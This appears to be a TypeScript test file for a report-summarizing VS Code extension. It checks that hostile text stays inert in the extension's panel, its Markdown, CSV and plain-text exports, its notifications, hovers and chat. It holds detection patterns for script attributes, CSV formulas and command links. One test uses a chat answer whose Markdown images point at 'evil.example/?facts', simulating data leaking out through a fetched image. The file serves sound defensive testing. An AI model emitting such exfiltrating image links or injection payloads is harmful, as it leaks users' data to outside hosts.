import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { describe, it } from 'node:test';
import { parseHTML } from 'linkedom';
import './vscodeStub.ts';
import { toCsv } from '../../../src/export/toCsv.ts';
import { toMarkdown } from '../../../src/export/toMarkdown.ts';
import { toPlainText } from '../../../src/export/toPlainText.ts';
import type { PanelState } from '../../../src/protocol.ts';
import type { ErrorCode } from '../../../src/summary/errors.ts';
import { describeError } from '../../../src/vscode/describeError.ts';
import { describeFact } from '../../../src/vscode/describeFact.ts';
import { applyCorrections } from '../../../src/vscode/corrections.ts';
import type { ReportState } from '../../../src/vscode/reportState.ts';
import { newReport } from '../../../src/vscode/reportState.ts';
import { english } from '../../../src/vscode/translate.ts';
import { INITIAL_PAGE } from '../../../src/webview/pageState.ts';
import type { PageState } from '../../../src/webview/pageState.ts';
import { panelView } from '../../../src/webview/panelView.ts';
import { updateChildren } from '../../../src/webview/virtual.ts';
import { stateOf } from '../../support/panelStates.ts';
import { hostileSummary, INVISIBLES, PAYLOADS } from './hostileSummary.ts';

const { handleChat } = await import('../../../src/vscode/chat.ts');
const { ReportItem } = await import('../../../src/vscode/reportsView.ts');

/** The Markdown of the editor and of GitHub at their most willing: HTML and bare addresses are live. */
const MarkdownIt = createRequire(import.meta.url)('markdown-it') as new (options: object) => {
  render(text: string): string;
};
const markdown = new MarkdownIt({ html: true, linkify: true });
const LIVE =
  'a, img, script, style, link, iframe, svg, form, input, object, embed, video, audio, code, pre, blockquote';

function renderMarkdown(text: string): Element {
  return parseHTML(`<!doctype html><html><body>${markdown.render(text)}</body></html>`).document.body;
}

function hostileReport(text: string): ReportState {
  const summary = hostileSummary(text);
  return {
    ...newReport(`file:///${text}`, text),
    ...{ phase: 'done', summary, complete: summary, modelName: text },
    failure: { code: 'bad-request', text },
    warnings: [{ code: 'rules-only', message: text }],
    cleaning: { lines: 1, samples: [{ kind: 'removal', code: text, count: 1, sample: text }] },
  };
}

/** The panel's page as drawn from `state`: as it is first, with everything open, with a form for a fact. */
function drawPages(state: PanelState): Element[] {
  const first = state.attendees[0]!.organizations[0]!.facts[0]!.id;
  const pages: Partial<PageState>[] = [
    {},
    { openMenu: 'all', cleaningOpen: true, spoken: state.status, current: first },
    { editing: first, adding: 'agreements' },
    { editing: state.agreements[0]!.id },
    { editing: state.siteVisits[0]!.facts[0]!.id },
  ];
  return pages.map((page) => {
    const { document } = parseHTML('<!DOCTYPE html><html><body><div id="root"></div></body></html>');
    const root = document.getElementById('root')!;
    const nothing = (): void => undefined;
    const context = { page: { ...INITIAL_PAGE, ...page }, send: nothing, change: nothing, remembered: new Map() };
    updateChildren(root, panelView({ state, ...context }));
    // What a browser makes of the page when it is written and read again must be the same page.
    assert.equal(parseHTML(`<body>${root.innerHTML}</body>`).document.querySelectorAll('script').length, 0);
    return root;
  });
}

const TAGS = new Set(
  'DIV SPAN HEADER MAIN SECTION FOOTER BUTTON UL OL LI H1 H2 H3 H4 P DL DT DD TIME FORM LABEL INPUT TEXTAREA SELECT OPTION SVG PATH CIRCLE'.split(
    ' ',
  ),
);
const FORBIDDEN_ATTRIBUTE = /^(?:on|src|href|style|srcdoc|action|formaction|background|xlink)/i;

describe('hostile text in every field', () => {
  for (const payload of PAYLOADS)
    it(`stays text in the panel: ${JSON.stringify(payload)}`, () => {
      const state = stateOf(hostileReport(payload));
      for (const root of drawPages(state)) {
        const elements = [...root.querySelectorAll('*')];
        assert.ok(elements.length > 50);
        for (const element of elements) {
          assert.ok(TAGS.has(element.tagName.toUpperCase()), `a <${element.tagName}> in the page`);
          for (const { name } of Array.from(element.attributes))
            assert.doesNotMatch(name, FORBIDDEN_ATTRIBUTE, element.outerHTML.slice(0, 200));
        }
      }
      const shown = drawPages(state)[0]!;
      for (const place of ['h1', '.overview', '.fact-name', '.evidence-quote', '.fact-titles', '.party', 'h4'])
        assert.ok(shown.querySelector(place)?.textContent.includes(payload.trim()), `${place} does not show it`);
    });

  for (const payload of PAYLOADS)
    it(`stays text in Markdown: ${JSON.stringify(payload)}`, () => {
      const body = renderMarkdown(toMarkdown(hostileSummary(payload)));
      assert.equal(body.querySelectorAll(LIVE).length, 0, body.innerHTML);
      // Header and three people, header and one agreement, header and one visit: no row more, no row less.
      assert.equal(body.querySelectorAll('tr').length, 8);
      assert.equal(body.querySelectorAll('h1, h2, h3').length, 4);
      assert.equal(body.querySelectorAll('li').length, 2);
    });

  for (const payload of PAYLOADS)
    it(`is no formula and no further row in CSV: ${JSON.stringify(payload)}`, () => {
      const rows = readCsv(toCsv(hostileSummary(payload)).slice(1));
      assert.equal(rows.length, 6);
      for (const row of rows) {
        assert.equal(row.length, 17);
        for (const cell of row) assert.doesNotMatch(cell, /^[\s\u200b\ufeff]*[=+\-@＝＋－＠]/);
      }
    });

  for (const payload of PAYLOADS)
    it(`makes no line of its own in plain text: ${JSON.stringify(payload)}`, () => {
      const lines = (text: string): number =>
        toPlainText(hostileSummary(text)).split(/[\n\r\u2028\u2029\u0085]/).length;
      assert.equal(lines(payload), lines('王明'));
    });

  for (const payload of PAYLOADS)
    it(`is no link in a notification: ${JSON.stringify(payload)}`, () => {
      for (const code of ERRORS) {
        const detail = { name: payload, host: payload, model: payload, megabytes: 20, limit: 10 };
        const { text } = describeError(code, detail, english);
        assert.doesNotMatch(text, NOTIFICATION_LINK);
        assert.doesNotMatch(text, /[\n\r\t]/);
      }
    });

  for (const payload of PAYLOADS)
    it(`is one plain row in the Reports view: ${JSON.stringify(payload)}`, () => {
      const report = { ...hostileReport(payload), uri: 'file:///a.txt' };
      const item = new ReportItem(report, english);
      // A string is plain text there; only a MarkdownString would make links.
      assert.equal(typeof item.label, 'string');
      assert.equal(typeof item.tooltip, 'string');
      assert.equal((item.tooltip as string).split('\n').length, 4);
      assert.equal(item.command?.command, 'reportSummarizer.showPanel');
    });

  for (const payload of PAYLOADS)
    it(`keeps its line in a hover: ${JSON.stringify(payload)}`, () => {
      const report = hostileReport(payload);
      for (const fact of applyCorrections(report.summary!, []))
        assert.equal(describeFact(fact, report, english).split('\n').length, 3);
    });

  for (const payload of PAYLOADS)
    it(`stays text in the chat: ${JSON.stringify(payload)}`, async () => {
      const body = renderMarkdown(await chatAbout(hostileReport(payload), ''));
      assert.equal(body.querySelectorAll(LIVE).length, 0, body.innerHTML);
    });

  it('no image that a chat model writes is fetched, however it is cut', async () => {
    const answer =
      'See ![a](https://evil.example/?facts) and \\![b](https://evil.example/) and !\\[c] ![d]\n\n[d]: https://e.example';
    for (const size of [1, 2, 3, 1000]) {
      const body = renderMarkdown(await chatAbout(hostileReport('王明'), 'Who?', answer, size));
      assert.equal(body.querySelectorAll('img').length, 0, body.innerHTML);
      assert.ok(body.textContent.includes('See !'), 'the text itself is kept');
    }
  });
});

describe('characters that cannot be seen', () => {
  for (const [character, code] of INVISIBLES)
    it(`${code} is shown in the panel, the exports, the hover and the tree`, () => {
      const name = `王${character}明`;
      const summary = hostileSummary(name);
      const report = { ...hostileReport(name), uri: 'file:///a.txt' };
      const page = drawPages(stateOf(report))[0]!;
      for (const place of ['h1', '.fact-name', '.evidence-quote', '.overview', 'h4'])
        assert.equal(page.querySelector(`${place} .invisible`)?.textContent, code, place);
      const item = new ReportItem(report, english);
      const fact = applyCorrections(summary, [])[0]!;
      const told = {
        ...{ markdown: toMarkdown(summary), csv: toCsv(summary).slice(1), plain: toPlainText(summary) },
        ...{ hover: describeFact(fact, report, english), label: item.label as string, tooltip: item.tooltip as string },
        notification: describeError('empty', { name }, english).text,
      };
      for (const [surface, text] of Object.entries(told)) {
        assert.ok(!text.includes(character), `${surface} holds it`);
        assert.ok(
          text.replaceAll('\\', '').includes(`王[${code}]明`),
          `${surface} does not show it: ${text.slice(0, 200)}`,
        );
      }
    });
});

/** What VS Code makes a link of in a notification (base/common/linkedText.ts); `command:` ones run on a click. */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
const ERRORS: ErrorCode[] = [
  ...(['no-document', 'empty', 'binary', 'too-large', 'file-vanished', 'unreadable', 'no-key', 'wrong-key'] as const),
  ...(['no-quota', 'rate-limit', 'model-unknown', 'context-too-long', 'certificate', 'proxy', 'refused'] as const),
  ...(['name-not-found', 'wrong-path', 'redirected', 'timeout', 'filtered', 'model-refused', 'truncated'] as const),
  ...(['not-json', 'bad-request', 'server-error', 'connection-lost', 'bad-address', 'not-consented'] as const),
  'internal',
];

/** RFC 4180, read one character at a time. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') cell += text[++i]!;
      else quoted = false;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',' || c === '\n') {
      rows.at(-1)!.push(cell.replace(/\r$/, ''));
      cell = '';
      if (c === '\n') rows.push([]);
    } else cell += c;
  }
  return rows.slice(0, -1);
}

/** All Markdown that @report writes about `report`, asked `prompt` with a model that answers `answer` in pieces. */
async function chatAbout(report: ReportState, prompt: string, answer = '', pieceLength = 7): Promise<string> {
  const vscode = (await import('vscode')) as unknown as { workspace: Record<string, unknown> };
  const document = { uri: report.uri, positionAt: (offset: number) => ({ line: 0, character: offset }) };
  vscode.workspace['openTextDocument'] = () => Promise.resolve(document);
  let told = '';
  const stream = {
    progress: () => undefined,
    markdown: (text: string) => (told += text),
    anchor: () => undefined,
  };
  async function* pieces(): AsyncGenerator<string> {
    await Promise.resolve();
    for (let i = 0; i < answer.length; i += pieceLength) yield answer.slice(i, i + pieceLength);
  }
  const model = { sendRequest: () => Promise.resolve({ text: pieces() }) };
  type Arguments = Parameters<typeof handleChat>;
  await handleChat(
    { prompt, model } as unknown as Arguments[0],
    stream as unknown as Arguments[1],
    {} as Arguments[2],
    {
      t: english,
      archive: { restore: () => Promise.resolve() },
      book: { get: () => report },
    } as unknown as Arguments[3],
    () => Promise.resolve(report),
    () => ({ toString: () => report.uri }) as Arguments[5] extends () => infer U ? U : never,
  );
  return told;
}
